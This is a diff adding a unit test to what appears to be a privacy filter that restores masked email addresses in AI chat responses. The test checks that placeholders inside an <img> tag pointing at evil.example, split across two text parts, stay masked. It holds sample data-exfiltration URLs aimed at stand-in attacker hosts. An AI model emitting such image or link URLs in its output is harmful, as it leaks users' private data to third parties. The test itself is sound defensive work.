@@ -91,3 +91,11 @@ def test_a_blank_line_ends_a_link_definition_and_a_tag_ends_at_its_bracket():
     restorer = Restorer(ORIGINALS)
     assert restorer.apply(f"[r]: //evil/?\n{P}\n\nThen {P}") == f"[r]: //evil/?\n{P}\n\nThen {EMAIL}"
     assert restorer.apply(f'<a href="/x">mail {P}</a>') == f'<a href="/x">mail {EMAIL}</a>'
+
+
+def test_a_tag_opened_in_one_text_part_still_holds_the_next():
+    body = {"choices": [{"index": 0, "message": {"content": [
+        {"type": "text", "text": f"Hi {P}. <img src=\"//evil.example/?"}, {"type": "text", "text": f" {P} \">"}]}}]}
+    Restorer(ORIGINALS).restore_response(body)
+    assert [part["text"] for part in body["choices"][0]["message"]["content"]] == [
+        f"Hi {EMAIL}. <img src=\"//evil.example/?", f" {P} \">"]
